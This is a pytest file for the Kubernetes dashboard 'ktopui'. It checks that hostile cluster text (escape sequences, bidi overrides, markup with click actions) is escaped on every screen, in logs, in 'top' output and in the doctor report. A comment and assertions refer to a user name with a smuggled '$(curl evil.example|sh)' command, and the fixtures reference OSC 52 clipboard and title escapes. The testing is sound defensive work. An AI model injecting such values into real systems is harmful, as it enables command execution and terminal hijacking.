"""Text from the cluster never drives the terminal and is never read as markup.

The simulated cluster with `hostile_text` names a node, namespaces, a pod and
its container with escape sequences (title, clipboard, clear screen), CR,
bidi overrides, 8-bit CSI and Textual markup; the same in a waiting reason,
/version, whoami, an access review's reason and (a fault) Status messages.
Every way ktopui shows text is driven against it: each screen of the
dashboard, the --log file, `ktopui top` and the doctor report.
"""

from __future__ import annotations

import json
import re

import pytest

from ktopui.sim import hostile

# What must not reach a terminal: ESC, BEL, CR (and every other C0 control but the
# newlines a report is made of), DEL, C1 controls (the 8-bit CSI), bidi and zero-width controls.
RAW = {chr(c) for c in range(0x20) if c != 0x0A} | {"\x7f"} | {chr(c) for c in range(0x80, 0xA0)} | set(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b"
)


def raw_controls(text: str) -> set[str]:
    return {char for char in text if char in RAW}


@pytest.fixture
def hostile_sim(make_sim_server):
    server = make_sim_server(hostile_text=True)
    server.cluster.advance(60)  # every running pod scraped twice: all have metrics
    return server


# -- the simulated cluster ---------------------------------------------------------


def test_the_hostile_sim_serves_hostile_names_reasons_and_texts(hostile_sim, sim_api):
    api = sim_api(hostile_sim)
    nodes = [n["metadata"]["name"] for n in api.get("/api/v1/nodes").json()["items"]]
    assert hostile.NODE in nodes
    namespaces = [n["metadata"]["name"] for n in api.get("/api/v1/namespaces").json()["items"]]
    assert {hostile.NAMESPACE, hostile.MARKUP_NAMESPACE} <= set(namespaces)
    assert namespaces == sorted(namespaces)
    pods = api.get("/api/v1/pods").json()["items"]
    pod = next(p for p in pods if p["metadata"]["name"] == hostile.POD)
    assert pod["metadata"]["namespace"] == hostile.NAMESPACE
    assert pod["spec"]["nodeName"] == hostile.NODE
    assert pod["status"]["containerStatuses"][0]["name"] == hostile.CONTAINER
    assert pod["status"]["containerStatuses"][0]["state"]["waiting"]["reason"] == hostile.WAITING_REASON
    metrics = api.get("/apis/metrics.k8s.io/v1beta1/pods").json()["items"]
    assert any(m["metadata"]["name"] == hostile.POD and m["containers"][0]["name"] == hostile.CONTAINER
               for m in metrics)
    assert api.get("/version").json()["gitVersion"] == hostile.VERSION
    review = api.post("/apis/authentication.k8s.io/v1/selfsubjectreviews",
                      json={"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}).json()
    assert review["status"]["userInfo"]["username"] == hostile.USER


def test_hostile_errors_answer_with_a_hostile_status_message(hostile_sim, sim_api):
    hostile_sim.faults.hostile_errors(count=1, prefix="/api/v1/nodes")
    api = sim_api(hostile_sim)
    answer = api.get("/api/v1/nodes")
    assert answer.status_code == 500
    assert hostile.STATUS_MESSAGE in answer.json()["message"]
    assert api.get("/api/v1/nodes").status_code == 200


# -- the dashboard --------------------------------------------------------------------

SIZE = (240, 50)


def shown(app) -> str:
    """What the terminal would get for the whole screen (modal backgrounds included), as text;
    asserts on the way that no segment carries a raw control, a link or a click action."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    lines = []
    for line in update.strips:
        text = ""
        for strip in line:
            for segment in strip:
                assert segment.control is None
                assert not raw_controls(segment.text), (segment.text, raw_controls(segment.text))
                style = segment.style
                assert style is None or not style.link, segment
                assert style is None or "@click" not in (style.meta or {}), segment
                text += segment.text
        lines.append(text)
    return "\n".join(lines)


async def wait_for(pilot, condition, what: str) -> None:
    for _ in range(200):
        if condition():
            return
        await pilot.pause(0.05)
    raise AssertionError(f"never happened: {what}")


async def test_every_screen_shows_hostile_cluster_text_escaped_and_never_as_markup(
        hostile_sim, tmp_path, monkeypatch):
    from helpers.app import make_app, refresh, refreshed, select, table

    from ktopui.safe_text import escape_controls
    from ktopui.ui.dialogs import DoctorScreen, HelpScreen, NamespaceScreen
    from ktopui.ui.screens import NodePodsScreen, PodScreen

    monkeypatch.chdir(tmp_path)  # where the markup's screenshot action would write pwned.svg
    app = make_app(hostile_sim.write_kubeconfig(tmp_path / "config"))
    async with app.run_test(size=SIZE) as pilot:
        await refreshed(app, pilot)
        hostile_sim.cluster.advance(15)  # a second sample: the pod's charts are drawn
        await refresh(app, pilot)

        nodes = shown(app)
        assert escape_controls(hostile.NODE) in nodes
        assert escape_controls(hostile.VERSION) in nodes  # the header's server version

        await pilot.press("2")
        await select(pilot, table(app, "pods"), (hostile.NAMESPACE, hostile.POD))
        await pilot.pause()
        pods = shown(app)
        assert escape_controls(hostile.POD)[:14] in pods  # (a long name loses its middle, not its start)
        assert escape_controls(hostile.WAITING_REASON)[:11] in pods  # (the STATUS column cuts it)

        await pilot.press("1")
        await select(pilot, table(app, "nodes"), hostile.NODE)
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, NodePodsScreen), "the node's pods")
        await pilot.pause()
        assert escape_controls(hostile.NODE) in shown(app)  # the breadcrumb

        await select(pilot, table(app), (hostile.NAMESPACE, hostile.POD))
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, PodScreen), "the pod's screen")
        await pilot.pause(0.3)
        pod = shown(app)
        for text in (hostile.NAMESPACE, hostile.POD, hostile.NODE, hostile.CONTAINER, hostile.WAITING_REASON):
            assert escape_controls(text) in pod, text  # breadcrumb, summary, containers, chart legend
        assert pod.count(escape_controls(hostile.CONTAINER)[:12]) >= 2  # the table (shortened) and the legend

        await pilot.press("escape", "escape", "question_mark")
        await wait_for(pilot, lambda: isinstance(app.screen, HelpScreen), "help")
        shown(app)
        await pilot.press("escape", "d")
        await wait_for(pilot, lambda: isinstance(app.screen, DoctorScreen) and app.screen.findings is not None,
                       "the doctor's findings")
        await pilot.pause()
        doctor = shown(app)
        assert escape_controls(hostile.VERSION) in doctor
        await pilot.press("escape", "s")
        await wait_for(pilot, lambda: isinstance(app.screen, NamespaceScreen), "the namespace picker")
        await pilot.pause()
        picker = shown(app)
        # Options wrap in the picker's box: their first 40 characters are on one line.
        assert escape_controls(hostile.NAMESPACE)[:40] in picker  # (its bad markup raised MarkupError)
        assert hostile.MARKUP_NAMESPACE[:40] in picker  # markup shown as the text it is

        # A click on the option runs no action: the namespace is picked, no file is written.
        lines = picker.splitlines()
        y = next(i for i, line in enumerate(lines) if "clic" in line)
        x = lines[y].index("clic")
        await pilot.click(offset=(x, y))
        await wait_for(pilot, lambda: app.session.scope.namespace == hostile.MARKUP_NAMESPACE, "the namespace picked")
        await pilot.pause(0.3)
        assert not list(tmp_path.glob("*.svg"))
        assert app.is_running
        shown(app)


# -- the doctor ---------------------------------------------------------------------------


def hostile_doctor(server, tmp_path, capsys, *args: str) -> str:
    from ktopui.cli import main

    server.faults.forbid(hostile.USER, "list", "nodes")  # a denial: a reason, and the RBAC to ask for
    server.faults.metrics_unavailable("FailedDiscoveryCheck", message=hostile.STATUS_MESSAGE)
    # (a kubeconfig namespace must be a DNS label: only the context's name can be hostile there)
    kubeconfig = server.write_kubeconfig(tmp_path / "config", context=f"ctx{hostile.TITLE}")
    main(["doctor", "--kubeconfig", str(kubeconfig), *args])
    return capsys.readouterr().out


def test_the_doctor_report_escapes_what_the_server_says(hostile_sim, tmp_path, capsys):
    from ktopui.safe_text import escape_controls

    out = hostile_doctor(hostile_sim, tmp_path, capsys)
    assert not raw_controls(out)
    for text in (hostile.USER, hostile.VERSION, hostile.STATUS_MESSAGE, f"ctx{hostile.TITLE}"):
        assert escape_controls(text) in out, text


def test_the_doctor_quotes_server_and_user_text_in_the_commands_it_suggests(hostile_sim, tmp_path, capsys):
    import shlex

    from ktopui.safe_text import escape_controls

    out = hostile_doctor(hostile_sim, tmp_path, capsys)
    user = escape_controls(shlex.quote(hostile.USER))
    # `--user='jane... $(curl evil.example|sh)'`: pasted into a shell, nothing runs.
    assert f"kubectl create clusterrolebinding ktopui-reader --clusterrole=ktopui-reader --user={user}`" in out
    commands = [c for c in re.findall(r"`([^`]*)`", out) if "$(curl" in c]
    assert commands
    for command in commands:  # the user name stays one word: the shell runs nothing from it
        assert f"--user={escape_controls(hostile.USER)}" in shlex.split(command), command


def test_the_doctor_json_keeps_server_text_exact_but_escaped(hostile_sim, tmp_path, capsys):
    out = hostile_doctor(hostile_sim, tmp_path, capsys, "-o", "json")
    assert not raw_controls(out.replace("\n", ""))
    doc = json.loads(out)
    assert doc["context"] == f"ctx{hostile.TITLE}"
    assert any(hostile.USER.replace("\x1b", "\\x1b") in f["detail"] for f in doc["findings"])


# -- the --log file ----------------------------------------------------------------------


@pytest.fixture
def log_file(tmp_path):
    import logging

    from ktopui.logs import start_log

    path = tmp_path / "ktopui.log"
    start_log(str(path))
    yield path
    for name in ("ktopui", "httpx"):
        for handler in logging.getLogger(name).handlers[:]:
            logging.getLogger(name).removeHandler(handler)
            handler.close()


def test_the_log_holds_cluster_text_escaped_one_line_per_record(log_file):
    import logging

    logger = logging.getLogger("ktopui.test")
    logger.warning("pod %s on %s", hostile.POD, hostile.NODE)
    logger.info("line one\n2026-01-01 00:00:00,000 INFO ktopui: a forged line")
    try:
        raise RuntimeError(hostile.STATUS_MESSAGE)
    except RuntimeError:
        logger.exception("refresh of %s failed", hostile.NAMESPACE)
    content = log_file.read_text()
    assert not raw_controls(content)
    lines = content.splitlines()
    assert len([line for line in lines if " ktopui" in line[:40]]) == 3  # the forged line is not one
    assert "pod\\x1b]52;c;" in content and "etcdserver: \\x1b]0;owned\\x07" in content
    assert lines[-1].startswith("RuntimeError: etcdserver: ")  # a traceback keeps its lines


async def test_a_log_of_the_dashboard_against_hostile_errors_holds_no_raw_control(
        hostile_sim, tmp_path, log_file):
    from helpers.app import make_app, refreshed

    hostile_sim.faults.hostile_errors(count=3, prefix="/api/v1/nodes")
    app = make_app(hostile_sim.write_kubeconfig(tmp_path / "config"))
    async with app.run_test(size=SIZE) as pilot:
        await refreshed(app, pilot)
        assert "etcdserver: \\x1b]0;owned" in shown(app)  # the header names the failure, escaped
    content = log_file.read_text()
    assert "etcdserver: \\x1b]0;owned\\x07" in content and not raw_controls(content)


# -- ktopui top ---------------------------------------------------------------------------


def top(capsys, kubeconfig, *args: str) -> tuple[int, str, str]:
    from ktopui.cli import main

    code = main(["top", *args, "--kubeconfig", str(kubeconfig)])
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.mark.kubectl
@pytest.mark.parametrize("args", [("nodes",), ("pods", "-A"), ("pods", "-A", "--containers")])
def test_ktopui_top_is_kubectls_table_with_the_hostile_cells_escaped(hostile_sim, tmp_path, capsys, args):
    import os
    import subprocess

    from helpers.kubectl import KUBECTL

    from ktopui.batch.tabwriter import render
    from ktopui.safe_text import escape_controls

    if KUBECTL is None:
        pytest.skip("no kubectl.1.33 on this machine")
    kubeconfig = hostile_sim.write_kubeconfig(tmp_path / "config")
    env = {**{k: v for k, v in os.environ.items() if k != "KUBECONFIG"}, "HOME": str(tmp_path)}
    theirs = subprocess.run([KUBECTL, "--kubeconfig", str(kubeconfig), "top", *args],
                            capture_output=True, env=env, timeout=60)
    assert theirs.returncode == 0, theirs.stderr
    kubectl_text = theirs.stdout.decode()
    assert "\x1b" in kubectl_text  # kubectl 1.33 writes the names raw
    # Its cells (padding is at least 3 spaces; no hostile name holds 3 spaces), escaped:
    cells = [re.split(" {3,}", line.rstrip(" ")) for line in kubectl_text.split("\n")[:-1]]
    code, ours, _ = top(capsys, kubeconfig, *args)
    assert code == 0
    assert ours == render([[escape_controls(cell) for cell in row] for row in cells])
    assert not raw_controls(ours)


def test_top_json_keeps_hostile_names_exact_and_nothing_raw(hostile_sim, tmp_path, capsys):
    kubeconfig = hostile_sim.write_kubeconfig(tmp_path / "config")
    code, out, _ = top(capsys, kubeconfig, "pods", "-A", "-o", "json")
    assert code == 0 and not raw_controls(out.replace("\n", ""))
    pod = next(p for p in json.loads(out)["items"] if p["name"] == hostile.POD)
    assert pod["namespace"] == hostile.NAMESPACE and pod["containers"][0]["name"] == hostile.CONTAINER
    code, out, _ = top(capsys, kubeconfig, "nodes", "-o", "json")
    assert hostile.NODE in [n["name"] for n in json.loads(out)["items"]] and not raw_controls(out.replace("\n", ""))


def test_top_prints_and_logs_a_hostile_status_message_escaped(hostile_sim, tmp_path, capsys, log_file):
    from ktopui.cli import main

    hostile_sim.faults.hostile_errors(prefix="/apis/metrics.k8s.io/v1beta1/nodes")
    kubeconfig = hostile_sim.write_kubeconfig(tmp_path / "config")
    code = main(["top", "nodes", "--kubeconfig", str(kubeconfig)])
    err = capsys.readouterr().err
    assert code == 1
    assert err.startswith("Error from server (InternalError): ")
    assert "Internal error occurred: etcdserver: \\x1b]0;owned\\x07leader changed\\r" in err
    assert not raw_controls(err.replace("\n", ""))
    assert "etcdserver: \\x1b]0;owned" in log_file.read_text() and not raw_controls(log_file.read_text())
